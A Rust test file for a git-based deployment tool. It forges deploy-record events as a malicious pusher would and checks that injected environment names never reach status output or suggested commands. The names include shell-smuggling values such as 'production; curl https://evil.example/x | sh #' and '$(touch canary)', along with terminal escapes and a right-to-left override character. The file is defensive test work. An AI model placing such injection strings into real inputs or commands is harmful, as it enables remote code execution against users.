//! A record from an attacker with push access to the main repository: none of it becomes a command that a colleague
//! pastes.

use serde_json::{Value, json};

use super::{is_harmless, promotes, proposed};
use crate::sample::sample;
use crate::support::Deploy;

/// Names that act on a shell, a terminal or git, or are invalid.
const NAMES: [&str; 9] = [
    "production; curl https://evil.example/x | sh #",
    "$(touch canary)",
    "production\ngit smp promote",
    "\u{1b}[2Jproduction",
    "pro\u{202e}duction",
    "--take-over",
    "",
    "prod uction",
    "../production",
];

/// Writes one more event to the record, with this state and message.
#[track_caller]
pub(super) fn forge(deploy: &Deploy, state: &Value, message: &str) {
    let tip = deploy.git(&deploy.main, &["rev-parse", "refs/smp/record"]);
    let git = |input: &str, args: &[&str]| {
        let runner = deploy.runner().cwd(&deploy.main).stdin(input);
        runner.program("git", args).ok().out().trim().to_owned()
    };
    let blob = git(&state.to_string(), &["hash-object", "-w", "--stdin"]);
    let tree = git(&format!("100644 blob {blob}\tstate.json\n"), &["mktree"]);
    let commit = git(message, &["commit-tree", &tree, "-p", &tip, "-F", "-"]);
    deploy.git(&deploy.main, &["update-ref", "refs/smp/record", &commit]);
}

/// Returns the record's present state.
#[track_caller]
pub(super) fn state(deploy: &Deploy) -> Value {
    serde_json::from_str(&deploy.git(
        &deploy.main,
        &["cat-file", "blob", "refs/smp/record:state.json"],
    ))
    .unwrap()
}

/// Returns an open announcement of a promotion to this environment.
pub(super) fn announced(deploy: &Deploy, environment: &str) -> Value {
    json!({
        "id": "00000000deadbeef", "kind": "promote", "environment": environment, "from": deploy.nth(2),
        "to": deploy.nth(5), "unsigned": true, "by": {"name": "Mallory", "email": "m@example.com"}, "at": 1_646_222_400,
    })
}

/// Runs every command.
fn all(deploy: &Deploy) -> Vec<crate::support::Run> {
    let commands: [&[&str]; 10] = [
        &["status"],
        &["status", "--json"],
        &["promote", "-n", "--json"],
        &["promote", "--yes", "--commit", deploy.nth(5)],
        &["rollback", "production", "-n"],
        &["stage", "--yes"],
        &["signoff"],
        &["postpone", "--yes", "--reason", "x"],
        &["history"],
        &["setup", "--check"],
    ];
    commands.into_iter().map(|args| deploy.smp(args)).collect()
}

/// Removes the last forged event.
#[track_caller]
fn unforge(deploy: &Deploy) {
    deploy.git(
        &deploy.main,
        &["update-ref", "refs/smp/record", "refs/smp/record^"],
    );
}

#[test]
fn an_environment_with_a_shell_in_its_name_is_on_no_record_and_in_nobodys_hint() {
    let deploy = proposed();
    let lawful = state(&deploy);
    for name in sample(1, NAMES) {
        let mut forged = lawful.clone();
        forged["deploying"] = announced(&deploy, name);
        forge(&deploy, &forged, "x\n");
        let before = deploy.snapshot();
        let status = deploy.smp(&["status"]);
        status
            .ok()
            .prints_among("the record cannot be read")
            .prints_among("an invalid name");
        let told = deploy.smp(&["promote", "-n", "--json"]);
        assert_eq!(
            told.exits(1).json()["refusal"]["code"],
            "record-unreadable",
            "{name:?}"
        );
        let runs = if name == NAMES[0] {
            all(&deploy)
        } else {
            vec![status, told]
        };
        for run in runs {
            is_harmless(&run);
            run.never_shows("curl")
                .never_shows("canary")
                .never_shows("prod uction")
                .never_shows("../production");
        }
        assert_eq!(deploy.snapshot(), before);
        unforge(&deploy);
    }
}

#[test]
fn an_event_with_such_a_name_is_left_out_of_history_which_goes_on_without_it() {
    let deploy = proposed();
    deploy.smp(&["signoff"]).ok();
    promotes(&deploy, &[]).ok();
    let commit = deploy.nth(5);
    let rest =
        format!("Smp-Commit: {commit}\nSmp-Commits: 1\nSmp-Environment: x; curl evil | sh #\n");
    forge(
        &deploy,
        &state(&deploy),
        &format!("x\n\nSmp-Event: promoted\nSmp-Id: 00000000deadbeef\n{rest}"),
    );
    let run = deploy.smp(&["history"]);
    run.ok()
        .prints_among("production")
        .never_shows("curl")
        .says("1 event");
    is_harmless(&run);
}

/// A change of a state.
type Edit = fn(&mut Value);

#[test]
fn no_place_of_the_record_takes_such_a_name() {
    let bad = "production; sh #";
    let edits: [(&str, Edit); 6] = [
        ("candidate", |state| {
            state["candidate"]["environment"] = json!("production; sh #")
        }),
        ("goal", |state| {
            state["candidate"]["targets"][0]["environment"] = json!("production; sh #")
        }),
        ("owed", |state| {
            state["owed"][0]["environment"] = json!("production; sh #")
        }),
        ("channel", |state| {
            state["owed"][0]["channel"] = json!("production; sh #")
        }),
        ("deploys", |state| {
            let deploy = json!({"commit": state["candidate"]["commit"], "from": null, "by": {"name": "x", "email": "x"}, "at": 0});
            state["deploys"]["production; sh #"] = deploy;
        }),
        ("held", |state| {
            state["held"] = json!({"production; sh #": []})
        }),
    ];
    let deploy = super::recorded_like(
        crate::support::World::deploy_like()
            .without_pages()
            .toml("[channels.technical]\nkind = \"slack\"\n\n"),
    );
    deploy.smp(&["propose", "--yes"]);
    let lawful = state(&deploy);
    for (place, edit) in sample(2, edits) {
        let mut forged = lawful.clone();
        edit(&mut forged);
        assert_ne!(forged, lawful, "{place}");
        forge(&deploy, &forged, "x\n");
        let run = deploy.smp(&["status"]);
        run.ok()
            .prints_among("the record cannot be read")
            .never_shows(bad);
        unforge(&deploy);
    }
}

#[test]
fn an_environment_that_another_smp_toml_has_is_said_to_be_so_and_becomes_no_command() {
    let deploy = proposed();
    let mut forged = state(&deploy);
    forged["deploying"] = announced(&deploy, "eu");
    forge(&deploy, &forged, "x\n");
    let status = deploy.smp(&["status"]);
    status
        .ok()
        .prints_among("to eu, by Mallory")
        .prints_among("; this clone's configuration has no environment eu;");
    status
        .never_shows("promote eu")
        .prints_among("next: git smp setup\n");
    status.prints_among("note: a deploy to eu is in progress, and this clone's configuration does not name that environment; first get the team");
    let run = deploy.smp(&["stage", "--fix", deploy.nth(6), "--yes"]);
    run.exits(1)
        .says("because: this clone's configuration has no environment eu")
        .never_shows("promote eu");
    run.says("hint: get the team's current configuration, then: git smp setup");
    for args in [&["promote", "--yes"][..], &["rollback", "--yes"]] {
        let hash = if args[0] == "promote" { 5 } else { 1 };
        let option = if hash == 5 { "--commit" } else { "--to" };
        let run = deploy.smp(&[args, &[option, deploy.nth(hash)]].concat());
        run.exits(1)
            .says("Mallory began to promote")
            .says(
                "because: this clone's configuration has no environment eu; it may be out of date",
            )
            .says("because: its ID, for --take-over, is ")
            .says("hint: get the team's current configuration, then: git smp setup");
    }
    for run in all(&deploy) {
        run.never_shows("promote eu");
    }
}

#[test]
fn a_sign_off_leads_to_no_goal_that_this_smp_toml_lacks() {
    let deploy = proposed();
    let mut forged = state(&deploy);
    let goals = ["eu", "production"]
        .map(|name| json!({"environment": name, "from": null, "reached": false}));
    forged["candidate"]["targets"] = json!(goals);
    forge(&deploy, &forged, "x\n");
    deploy
        .smp(&["signoff"])
        .ok()
        .says("next: git smp promote production\n")
        .never_shows("promote eu");
}

#[test]
fn history_stays_readable_after_an_environment_was_renamed() {
    let deploy = proposed();
    deploy.smp(&["signoff"]).ok();
    promotes(&deploy, &[]).ok();
    deploy.write_toml(
        &deploy
            .toml()
            .replace("environments.production", "environments.live"),
    );
    deploy
        .smp(&["setup", "--yes"])
        .ok()
        .prints_among("on upstream; ");
    deploy
        .smp(&["history"])
        .ok()
        .prints_among("production")
        .never_shows("cannot be read");
    deploy
        .smp(&["status"])
        .ok()
        .never_shows("unknown: the record")
        .prints_among("next: ");
}
